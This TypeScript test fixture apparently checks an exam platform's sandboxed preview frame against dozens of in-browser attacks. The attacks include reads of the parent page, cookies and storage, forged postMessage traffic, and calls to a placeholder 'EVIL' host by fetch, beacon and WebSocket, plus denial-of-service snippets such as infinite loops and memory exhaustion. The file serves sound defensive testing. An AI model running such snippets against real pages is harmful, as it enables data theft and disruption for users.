/** What a page in the preview may try. `EVIL` is the address of a server that nobody may reach, `EXAM` that of the test. */
export interface Attack {
  readonly name: string
  /** Body of an async function; what it returns, or `X` and the name of what it throws, is printed. */
  readonly run: string
  /** What a failed attack prints; that it ran proves nothing, its effects outside of the frame do. */
  readonly expected: RegExp
}

const REFUSED = /^X (SecurityError|TypeError|NotAllowedError|NotFoundError|ReferenceError|NotSupportedError)$/
const TRIED = /^(tried|error|null|undefined|false|X \w+)$/

const attack = (name: string, run: string, expected = TRIED): Attack => ({ name, run, expected })

const element = (tag: string, fields: string, text = '') =>
  `const it = Object.assign(document.createElement('${tag}'), { ${fields} }); it.textContent = ${JSON.stringify(text)}; document.body.append(it);`

const ended = `new Promise((done) => { it.onload = () => done('loaded'); it.onerror = () => done('error'); setTimeout(done, 300, 'tried') })`

/** They leave the page as it is, so they run one after the other. */
export const QUIET: readonly Attack[] = [
  attack('reads the document of the test', 'return parent.document.title', REFUSED),
  attack('reads a variable of the test', 'return parent.SECRET', REFUSED),
  attack('takes the sandbox off its frame', "frameElement.removeAttribute('sandbox')", REFUSED),
  attack('reads cookies', 'return document.cookie', REFUSED),
  attack('sets a cookie', "document.cookie = 'a=1'; return 'set'", REFUSED),
  attack('reads localStorage', 'return localStorage.length', REFUSED),
  attack('reads sessionStorage', 'return sessionStorage.length', REFUSED),
  attack(
    'opens IndexedDB',
    "return await new Promise((done, fail) => { const asked = indexedDB.open('d'); asked.onsuccess = () => done('opened'); asked.onerror = () => fail(asked.error) })",
    REFUSED,
  ),
  attack('opens a cache', "return String(await caches.open('c'))", REFUSED),
  attack(
    'asks for storage access',
    "await document.requestStorageAccess(); return 'granted'",
    /^X |^undefined$/,
  ),
  attack('navigates the test', "top.location = 'EVIL/top'; return 'tried'"),
  attack(
    'navigates the test by a link',
    `${element('a', "href: 'EVIL/top-link', target: '_top'")} it.click(); return 'tried'`,
  ),
  attack('goes back in the history of the test', "history.back(); return 'tried'"),
  attack('opens a window', "return String(window.open('EVIL/popup'))", /^null$/),
  attack(
    'opens a window by a link',
    `${element('a', "href: 'EVIL/blank', target: '_blank'")} it.click(); return 'tried'`,
  ),
  attack(
    'downloads a file',
    `${element('a', "href: 'data:text/plain,x', download: 'x.txt'")} it.click(); return 'tried'`,
  ),
  attack(
    'posts a form',
    `${element('form', "action: 'EVIL/form', method: 'post'")} it.submit(); return 'tried'`,
  ),
  attack(
    'posts a form to a new window',
    `${element('form', "action: 'EVIL/form-blank', target: '_blank'")} it.submit(); return 'tried'`,
  ),
  attack('fetches', "return (await fetch('EVIL/fetch', { mode: 'no-cors' })).type", REFUSED),
  attack(
    'fetches from the test with its cookies',
    "return await (await fetch('EXAM/api/v1/time', { credentials: 'include' })).text()",
    REFUSED,
  ),
  attack(
    'asks by XMLHttpRequest',
    "return await new Promise((done) => { const it = new XMLHttpRequest(); it.onload = () => done('loaded'); it.onerror = () => done('error'); it.open('GET', 'EVIL/xhr'); it.send() })",
  ),
  attack('loads an image', `${element('img', "src: 'EVIL/img'")} return await ${ended}`),
  attack('loads a script', `${element('script', "src: 'EVIL/script'")} return await ${ended}`),
  attack(
    'loads a style sheet',
    `${element('link', "rel: 'stylesheet', href: 'EVIL/link'")} return await ${ended}`,
  ),
  attack(
    'imports styles, a picture and a font',
    `${element('style', '', "@import 'EVIL/import'; @font-face { font-family: f; src: url(EVIL/font) } body { background: url(EVIL/css); font-family: f }")} return 'tried'`,
  ),
  attack('prefetches', `${element('link', "rel: 'prefetch', href: 'EVIL/prefetch'")} return 'tried'`),
  attack('connects ahead', `${element('link', "rel: 'preconnect', href: 'EVIL/preconnect'")} return 'tried'`),
  attack('sends a beacon', "navigator.sendBeacon('EVIL/beacon', 'x'); return 'tried'"),
  attack('pings by a link', `${element('a', "href: '#x', ping: 'EVIL/ping'")} it.click(); return 'tried'`),
  attack(
    'opens a WebSocket',
    "return await new Promise((done) => { const it = new WebSocket('EVIL/ws'.replace('http', 'ws')); it.onopen = () => done('open'); it.onerror = () => done('error') })",
  ),
  attack(
    'listens to an event stream',
    "return await new Promise((done) => { const it = new EventSource('EVIL/events'); it.onopen = () => done('open'); it.onerror = () => done('error') })",
  ),
  attack('plays a sound', `${element('audio', "src: 'EVIL/audio'")} return await ${ended}`),
  attack(
    'starts a worker',
    "return await new Promise((done) => { const it = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); it.onmessage = () => done('ran'); it.onerror = () => done('error') })",
  ),
  attack(
    'starts a shared worker',
    "return await new Promise((done) => { const it = new SharedWorker('data:text/javascript,'); it.onerror = () => done('error'); setTimeout(done, 300, 'tried') })",
  ),
  attack(
    'registers a service worker',
    "return String(await navigator.serviceWorker.register('/showcase'))",
    REFUSED,
  ),
  attack('frames another page', `${element('iframe', "src: 'EVIL/iframe'")} return 'tried'`),
  attack(
    'frames the test',
    `${element('iframe', "src: 'EXAM/test-interface/v1/'")} return await new Promise((done) => setTimeout(() => { try { done(String(it.contentDocument.title)) } catch (error) { done('X ' + error.name) } }, 300))`,
    /^X |^$/,
  ),
  attack(
    'frames a text of its own, out of which it reaches up',
    `${element('iframe', "srcdoc: '<script>try { top.SECRET = 1; top.location = `EVIL/nested` } catch {} try { top.postMessage({ kind: `shown` }, `*`) } catch {}</script>'")} return 'tried'`,
  ),
  attack('embeds an object', `${element('object', "data: 'EVIL/object'")} return 'tried'`),
  attack('uses who opened it', 'return String(opener)', /^null$/),
  attack('goes full screen', "await document.documentElement.requestFullscreen(); return 'full'", /^X /),
  attack(
    'uses the camera',
    'return String(await navigator.mediaDevices.getUserMedia({ video: true }))',
    /^X /,
  ),
  attack('shares the screen', 'return String(await navigator.mediaDevices.getDisplayMedia())', /^X /),
  attack('reads the clipboard', 'return await navigator.clipboard.readText()', /^X /),
  attack('writes to the clipboard', "await navigator.clipboard.writeText('x'); return 'written'", /^X /),
  attack(
    'asks where the candidate is',
    "return await new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('found'), () => done('error')))",
  ),
  attack('asks to notify', 'return await Notification.requestPermission()', /^(denied|default|X \w+)$/),
  attack('locks the pointer', "await document.body.requestPointerLock(); return 'locked'", /^X /),
  attack(
    'shows dialogs',
    "HTMLIFrameElement; const frame = document.createElement('iframe'); document.body.append(frame); return String([alert(1), confirm(1), prompt(1), frame.contentWindow?.confirm?.(1)])",
    /^X SecurityError$/,
  ),
  attack('prints', "print(); return 'tried'"),
  attack(
    'hears what other pages of the test say',
    "return await new Promise((done) => { const it = new BroadcastChannel('assess'); it.onmessage = () => done('heard'); setTimeout(done, 200, 'tried') })",
  ),
  attack(
    'takes the focus',
    "const it = document.body.appendChild(document.createElement('input')); it.focus(); return 'tried'",
  ),
  attack(
    'forges messages',
    "for (const kind of ['ready2', 'checked', 'pong', '__proto__']) for (const number of [1, NaN, '1', {}]) parent.postMessage({ kind, number, message: 1, html: '<b>' }, '*'); parent.postMessage(null, '*'); parent.postMessage(new Map(), '*'); return 'tried'",
  ),
  attack(
    'sends packets by WebRTC',
    "const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); it.createDataChannel('x'); await it.setLocalDescription(await it.createOffer()); await new Promise((done) => setTimeout(done, 500)); return 'tried'",
  ),
]

/** Each ends the page that it runs in, one way or the other. */
export const LOUD: Readonly<Record<string, string>> = {
  'navigates itself away': "location = 'EVIL/self'",
  'navigates itself away by a refresh':
    'document.head.innerHTML = \'<meta http-equiv="refresh" content="0;url=EVIL/refresh">\'',
  'navigates itself to the test': "location = 'EXAM/test-interface/v1/'",
  'posts a form in its own frame':
    "const form = document.createElement('form'); form.action = 'EVIL/own'; form.innerHTML = '<input name=a value=1>'; document.addEventListener('submit', (event) => event.stopImmediatePropagation(), true); document.body.append(form); form.requestSubmit()",
  'reloads itself for ever': 'location.reload()',
  'writes ten thousand lines': "for (let n = 0; n < 10000; n++) console.log('line ' + n)",
  'sends ten thousand messages a second':
    "const end = performance.now() + 2000; const send = () => { for (let n = 0; n < 500; n++) parent.postMessage({ kind: 'shown', n }, '*'); if (performance.now() < end) setTimeout(send, 50) }; send()",
  'sends huge messages':
    "const text = 'x'.repeat(20_000_000); for (let n = 0; n < 10; n++) parent.postMessage({ kind: 'console', level: 'log', text }, '*')",
  'takes two gigabytes':
    'globalThis.kept = []; for (let n = 0; n < 200; n++) kept.push(new Uint8Array(10_000_000).fill(1))',
  'takes the focus again and again':
    "const it = document.body.appendChild(document.createElement('input')); setInterval(() => { it.blur(); it.focus() }, 20)",
  'never ends': 'while (true) {}',
}
